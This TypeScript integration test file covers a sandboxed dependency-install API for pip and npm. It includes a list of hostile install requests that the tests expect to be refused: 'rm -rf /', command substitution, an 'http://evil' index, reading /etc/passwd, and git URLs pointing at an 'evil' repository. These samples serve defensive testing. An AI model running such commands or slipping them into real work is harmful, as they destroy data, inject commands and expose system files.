// POST /api/dependencies/install and the streamed install against the real app and the real
// sandbox. Real: app, database, bubblewrap, slirp4netns, python -m venv, pip, npm. Fake (local):
// the package sources (a wheel directory, an npm registry on loopback), never a public index.
import { chmodSync, existsSync, lstatSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTRPCClient, httpLink, httpSubscriptionLink, splitLink } from '@trpc/client';
import { EventSource } from 'eventsource';
import type { AppRouter } from '../../../router';
import { startTestApp, type TestApp } from '../../../testing/test-app';
import { newUser } from '../../../testing/fixtures';
import { startNpmRegistry, writeWheel, type NpmRegistry } from '../../../testing/package-index';
import { limitsFor } from '../sandbox';
import { descendantsOf } from '../sandbox/process-usage';
import { INSTALLER_UID, type SandboxMount, type SandboxedProcess } from '../sandbox/sandbox';
import { defaultProject } from '../../workspace/projects';
import { installedDependencies } from './installer';

const wheels = mkdtempSync(path.join(tmpdir(), 'botwright-wheels-'));
chmodSync(wheels, 0o755); // the installer's uid lists it (an operator's wheel dir is world-readable too)
writeWheel(wheels, { name: 'mypkg', version: '1.0', files: { 'mypkg/__init__.py': 'X = "hello from mypkg"\n' } });
writeWheel(wheels, { name: 'otherpkg', version: '2.0', files: { 'otherpkg/__init__.py': 'Y = 2\n' } });

const registry: NpmRegistry = await startNpmRegistry();
registry.publish({ name: 'tiny-lib', version: '1.0.0', files: { 'index.js': 'module.exports = "tiny-lib works";\n' } });
registry.publish({ name: 'tiny-lib', version: '1.2.0', files: { 'index.js': 'module.exports = "tiny-lib 1.2 works";\n' } });
// Would leave a file behind in its own dir (and in /deps) if any install script ran.
const MARK = (name: string) => `node -e "require('fs').writeFileSync('${name}', 'ran'); try { require('fs').writeFileSync('/deps/${name}', 'ran') } catch {}"`;
registry.publish({
  name: 'scripted-lib',
  version: '1.0.0',
  files: { 'index.js': 'module.exports = 1;\n' },
  manifest: { scripts: { preinstall: MARK('preinstall-ran'), install: MARK('install-ran'), postinstall: MARK('postinstall-ran') } },
});

/** The project's dependency dir on the host (its volume, mounted), null when nothing was installed. */
const packagesDirOf = (app: TestApp, projectId: string) => app.app.deps.packageVolumes.dir(projectId, false);

const t: TestApp = await startTestApp({ LOG_LEVEL: 'warn', RUNNER_PIP_FIND_LINKS: wheels, RUNNER_NPM_REGISTRY: registry.url });
const active = (name: string) => t.app.deps.sandbox.status.protections.some((p) => p.name === name && p.active);
const noBubblewrap = !active('bubblewrap');
const noNetwork = !active('network-isolation');

afterAll(async () => {
  await t.close();
  await registry.close();
  rmSync(wheels, { recursive: true, force: true });
});

function client(app: TestApp, token: string) {
  const url = `${app.url}/trpc`;
  return createTRPCClient<AppRouter>({
    links: [
      splitLink({
        condition: (op) => op.type === 'subscription',
        true: httpSubscriptionLink({ url, EventSource, eventSourceOptions: () => ({ fetch: (input, init) => fetch(input, { ...init, headers: { ...init?.headers, authorization: `Bearer ${token}` } }) }) }),
        false: httpLink({ url, headers: { authorization: `Bearer ${token}` } }),
      }),
    ],
  });
}

const install = (app: TestApp, token: string, body: unknown) => app.request('POST', '/api/dependencies/install', { token, body });

/** The person's default project ('default' in a request), made on first need as the server does. */
async function defaultProjectId(app: TestApp, user: { id: string }): Promise<string> {
  return (await defaultProject(app.app.deps.db, app.app.deps.clock, user.id)).id;
}

/** Still running: present and not a zombie (an orphan's zombie waits for the host's init to reap it). */
function running(pid: number): boolean {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3) !== 'Z';
  } catch {
    return false;
  }
}

/** Runs a command in a fresh sandbox as a bot would (its own uid, no network), returning its output. */
async function sandboxed(app: TestApp, argv: string[], mounts: SandboxMount[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = await app.app.deps.sandbox.spawn({
    argv,
    cwd: '/tmp',
    mounts,
    env: { PATH: '/usr/bin:/bin', HOME: '/tmp', LANG: 'C.UTF-8' },
    network: 'none',
    limits: limitsFor(app.config.runner),
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += String(d)));
  child.stderr.on('data', (d) => (stderr += String(d)));
  const exit = await child.exit;
  return { code: exit.code, stdout: stdout.trim(), stderr: stderr.trim() };
}

describe('POST /api/dependencies/install: refused before anything runs', () => {
  // Hostile install requests (see install-request.ts), as the command line and as dependencies[].
  const hostile: Array<{ command: string; dependencies?: string[] }> = [
    { command: 'pip install requests; rm -rf /' },
    { command: 'pip install $(id)' },
    { command: 'pip install `id`' },
    { command: 'pip install requests && id' },
    { command: 'pip install requests\nid' },
    { command: 'pip install --index-url http://evil requests' },
    { command: 'pip install -r /etc/passwd' },
    { command: 'pip install git+https://github.com/evil/pkg' },
    { command: 'pip install ../pkg' },
    { command: 'pip install -e .' },
    { command: 'npm i x --unsafe-perm' },
    { command: 'pip install', dependencies: ['requests; rm -rf /'] },
    { command: 'pip install', dependencies: ['--index-url=http://evil'] },
    { command: 'pip install', dependencies: ['requests', '$(id)'] },
    { command: 'npm install', dependencies: ['x', '--unsafe-perm'] },
    { command: 'npm install', dependencies: ['file:../x'] },
    { command: 'npm install', dependencies: ['git+https://github.com/evil/pkg'] },
    { command: 'sh -c id', dependencies: ['requests'] },
  ];

  it.each(hostile)('%j -> 400, no process started, nothing written', async (body) => {
    const spawn = vi.spyOn(t.app.deps.sandbox, 'spawn');
    try {
      const user = await newUser(t);
      const res = await install(t, user.token, { ...body, projectId: 'default' });
      expect(res.status).toBe(400);
      expect(typeof res.body.error).toBe('string');
      expect(spawn).not.toHaveBeenCalled();
      expect(await packagesDirOf(t, await defaultProjectId(t, user))).toBeNull();
    } finally {
      spawn.mockRestore();
    }
  });

  it('5 installs an hour per person (docs/security.md), the streamed install counted with the plain one', async () => {
    const { token } = await newUser(t);
    for (let i = 0; i < 5; i++) expect((await install(t, token, { command: 'pip install $(id)' })).status).toBe(400);
    const res = await install(t, token, { command: 'pip install mypkg' });
    expect(res.status).toBe(429);
    expect(res.body.error).toMatch(/^Too many attempts/);
    const input = encodeURIComponent(JSON.stringify({ command: 'pip install mypkg' }));
    const stream = await fetch(`${t.url}/trpc/dependencies.installStream?input=${input}`, { headers: { authorization: `Bearer ${token}` } });
    expect(stream.status).toBe(429);
    // Another person's budget is their own.
    expect((await install(t, (await newUser(t)).token, { command: 'pip install $(id)' })).status).toBe(400);
  });

  it('needs a signed-in person; another person\'s project answers 404', async () => {
    const spawn = vi.spyOn(t.app.deps.sandbox, 'spawn');
    try {
      expect((await install(t, '', { command: 'pip install mypkg' })).status).toBe(401);
      const owner = await newUser(t);
      const other = await newUser(t);
      const projectId = await defaultProjectId(t, owner);
      const res = await install(t, other.token, { command: 'pip install mypkg', projectId });
      expect(res.status).toBe(404);
      expect(res.body.error).toBe('Project not found');
      expect(spawn).not.toHaveBeenCalled();
    } finally {
      spawn.mockRestore();
    }
  });
});

describe.skipIf(noBubblewrap)('pip install from a wheel directory, in the sandbox', () => {
  it('makes the venv inside the sandbox, installs the wheel, and a run can import it', { timeout: 90_000 }, async () => {
    const user = await newUser(t);
    const { token } = user;
    const projectId = await defaultProjectId(t, user);
    const res = await install(t, token, { command: 'pip install mypkg', dependencies: ['mypkg'], projectId: 'default' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.message).toBe('Dependencies installed successfully: mypkg');
    expect(res.body.output).toContain('Successfully installed mypkg-1.0');

    const deps = (await packagesDirOf(t, projectId))!;
    const sitePackages = path.join(deps, 'venv', 'lib', 'python3.11', 'site-packages');
    expect(statSync(path.join(sitePackages, 'mypkg')).isDirectory()).toBe(true);
    expect(installedDependencies(await packagesDirOf(t, projectId))).toEqual({ venv: true, nodeModules: false });
    if (process.getuid?.() === 0) {
      // Owned by the uid of the install that wrote it (one of its own, not root, not the shared
      // installer uid) and not writable by others: a run (another uid) only reads it.
      const dir = statSync(deps);
      expect(dir.uid).toBeGreaterThanOrEqual(200_000);
      expect(dir.uid).not.toBe(INSTALLER_UID);
      expect(dir.mode & 0o022).toBe(0);
      expect(statSync(path.join(sitePackages, 'mypkg', '__init__.py')).uid).toBe(dir.uid);
      // A volume of its own: the sandbox's mounts show the image's paths, nothing of the host.
      if (t.app.deps.packageVolumes.storage.volumes) {
        const mountinfo = await sandboxed(t, ['/bin/cat', '/proc/self/mountinfo'], [{ host: path.join(deps, 'venv'), sandbox: '/deps/venv' }]);
        expect(mountinfo.stdout).toMatch(/ \/venv \/deps\/venv ro,/);
        for (const hostPath of [t.config.dataDir, deps, process.cwd(), '/run/botwright']) expect(mountinfo.stdout).not.toContain(hostPath);
      }
    }

    const run = await sandboxed(t, ['/deps/venv/bin/python', '-c', 'import mypkg; print(mypkg.X)'], [{ host: path.join(deps, 'venv'), sandbox: '/deps/venv' }]);
    expect(run, run.stderr).toMatchObject({ code: 0, stdout: 'hello from mypkg' });

    // A second install reuses the venv (no new venv step) and keeps the first package.
    const again = await install(t, token, { command: 'pip install otherpkg==2.0', projectId });
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    expect(again.body.output).not.toContain('python -m venv');
    const both = await sandboxed(t, ['/deps/venv/bin/python', '-c', 'import mypkg, otherpkg; print(mypkg.X, otherpkg.Y)'], [
      { host: path.join(deps, 'venv'), sandbox: '/deps/venv' },
    ]);
    expect(both, both.stderr).toMatchObject({ code: 0, stdout: 'hello from mypkg 2' });
  });

  it('a package the index does not have fails with pip\'s own reason (422)', { timeout: 60_000 }, async () => {
    const { token } = await newUser(t);
    const res = await install(t, token, { command: 'pip install no-such-package', projectId: 'default' });
    expect(res.status).toBe(422);
    expect(res.body.error).toMatch(/^pip failed: .*No matching distribution found for no-such-package/);
  });

  it('installStream yields the installer\'s lines as they come, then done', { timeout: 60_000 }, async () => {
    const { token } = await newUser(t);
    const events: Array<{ type: string; line?: string; message?: string; output?: string }> = [];
    await new Promise<void>((resolve, reject) => {
      const sub = client(t, token).dependencies.installStream.subscribe(
        { command: 'pip install mypkg', projectId: 'default' },
        {
          onData: (e) => {
            events.push(e);
            if (e.type === 'done') {
              sub.unsubscribe();
              resolve();
            }
          },
          onError: reject,
        },
      );
    });
    const lines = events.filter((e) => e.type === 'output').map((e) => e.line);
    expect(events.at(-1)).toMatchObject({ type: 'done', message: 'Dependencies installed successfully: mypkg' });
    expect(lines[0]).toBe('$ python -m venv /deps/venv');
    expect(lines).toContain('$ pip install mypkg');
    expect(lines.some((l) => l?.startsWith('Successfully installed mypkg-1.0'))).toBe(true);
    expect(events.at(-1)!.output).toBe(lines.join('\n'));
  });

  it('installStream reports a refused request as an error, with no process started', async () => {
    const { token } = await newUser(t);
    const spawn = vi.spyOn(t.app.deps.sandbox, 'spawn');
    try {
      const error = await new Promise<Error>((resolve) => {
        const sub = client(t, token).dependencies.installStream.subscribe(
          { command: 'pip install requests; rm -rf /', projectId: 'default' },
          {
            onData: () => {},
            onError: (err) => {
              sub.unsubscribe();
              resolve(err);
            },
          },
        );
      });
      expect(error.message).toMatch(/not a package name/);
      expect(spawn).not.toHaveBeenCalled();
    } finally {
      spawn.mockRestore();
    }
  });
});

describe.skipIf(noBubblewrap || noNetwork)('npm install from a registry on loopback, in the sandbox', () => {
  it('installs the package into node_modules, readable by a run, with a server-written package.json', { timeout: 60_000 }, async () => {
    const user = await newUser(t);
    const { token } = user;
    const projectId = await defaultProjectId(t, user);
    const res = await install(t, token, { command: 'npm install tiny-lib@^1.0.0', projectId });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.message).toBe('Dependencies installed successfully: tiny-lib@^1.0.0');
    expect(res.body.output).toMatch(/added 1 package/);
    expect(registry.requests).toContain('/tiny-lib');

    const deps = (await packagesDirOf(t, projectId))!;
    expect(JSON.parse(readFileSync(path.join(deps, 'node_modules', 'tiny-lib', 'package.json'), 'utf8')).version).toBe('1.2.0');
    expect(JSON.parse(readFileSync(path.join(deps, 'package.json'), 'utf8')).dependencies).toEqual({ 'tiny-lib': '^1.0.0' });
    expect(installedDependencies(await packagesDirOf(t, projectId))).toEqual({ venv: false, nodeModules: true });
    const run = await sandboxed(t, ['/usr/bin/node', '-e', 'console.log(require("/app/node_modules/tiny-lib"))'], [
      { host: path.join(deps, 'node_modules'), sandbox: '/app/node_modules' },
    ]);
    expect(run, run.stderr).toMatchObject({ code: 0, stdout: 'tiny-lib 1.2 works' });
  });

  it('runs no install scripts (--ignore-scripts), and a second install keeps the first package', { timeout: 60_000 }, async () => {
    const user = await newUser(t);
    const { token } = user;
    const projectId = await defaultProjectId(t, user);
    expect((await install(t, token, { command: 'npm install tiny-lib', projectId })).status).toBe(200);
    const res = await install(t, token, { command: 'npm install', dependencies: ['scripted-lib'], projectId });
    expect(res.status, JSON.stringify(res.body)).toBe(200);

    const deps = (await packagesDirOf(t, projectId))!;
    const pkg = path.join(deps, 'node_modules', 'scripted-lib');
    expect(existsSync(path.join(pkg, 'index.js'))).toBe(true);
    for (const script of ['preinstall-ran', 'install-ran', 'postinstall-ran']) {
      expect(existsSync(path.join(pkg, script)), script).toBe(false);
      expect(existsSync(path.join(deps, script)), script).toBe(false);
    }
    expect(existsSync(path.join(deps, 'node_modules', 'tiny-lib', 'index.js'))).toBe(true);
    expect(JSON.parse(readFileSync(path.join(deps, 'package.json'), 'utf8')).dependencies).toEqual({ 'tiny-lib': '*', 'scripted-lib': '*' });
  });
});

describe.skipIf(noBubblewrap || noNetwork)('a stalled registry', () => {
  let slow: TestApp;
  let stalled: NpmRegistry;
  beforeAll(async () => {
    stalled = await startNpmRegistry();
    stalled.hang = true;
    slow = await startTestApp({ LOG_LEVEL: 'warn', RUNNER_NPM_REGISTRY: stalled.url, RUNNER_INSTALL_TIMEOUT_SECONDS: '5' });
  });
  afterAll(async () => {
    await slow?.close();
    await stalled?.close();
  });

  it('times out with a clear message, leaves nothing running, and refuses a second install meanwhile, in that bot or another of the person (409)', { timeout: 60_000 }, async () => {
    const spawned: SandboxedProcess[] = [];
    const sandbox = slow.app.deps.sandbox;
    const original = sandbox.spawn.bind(sandbox);
    const spawn = vi.spyOn(sandbox, 'spawn').mockImplementation(async (spec) => {
      const child = await original(spec);
      spawned.push(child);
      return child;
    });
    try {
      const user = await newUser(slow);
      const { token } = user;
      const projectId = await defaultProjectId(slow, user);
      const started = Date.now();
      const first = install(slow, token, { command: 'npm install tiny-lib', projectId });
      await stalled.nextRequest();
      // npm is waiting on the registry: note every process of the install.
      expect(spawned).toHaveLength(1);
      const pids = [spawned[0]!.pid, ...descendantsOf(spawned[0]!.pid)];
      expect(pids.length).toBeGreaterThan(1);

      const second = await install(slow, token, { command: 'npm install other-lib', projectId });
      expect(second.status).toBe(409);
      expect(second.body.error).toMatch(/already being installed/);
      // Nor for another of the person's bots: what an install adds counts only once it is done, so
      // one at a time keeps a person at most one install past their storage quota.
      const otherBot = (await slow.request('POST', '/api/projects', { token, body: { name: 'Other' } })).body.id as string;
      const elsewhere = await install(slow, token, { command: 'npm install tiny-lib', projectId: otherBot });
      expect(elsewhere.status).toBe(409);
      expect(elsewhere.body.error).toBe('You are already installing dependencies for another bot. Wait for that installation to finish, then try again.');

      const res = await first;
      expect(res.status).toBe(504);
      expect(res.body.error).toBe('Installation timed out after 5 s');
      expect(Date.now() - started).toBeLessThan(15_000);
      expect(pids.filter(running)).toEqual([]);
      expect(spawn).toHaveBeenCalledTimes(1);

      // The lock is released: the next install starts (and stalls) again.
      const third = install(slow, token, { command: 'npm install tiny-lib', projectId });
      await stalled.nextRequest();
      expect(spawn).toHaveBeenCalledTimes(2);
      expect((await third).status).toBe(504);
      expect(lstatSync((await packagesDirOf(slow, projectId))!).isDirectory()).toBe(true);
    } finally {
      spawn.mockRestore();
    }
  });
});
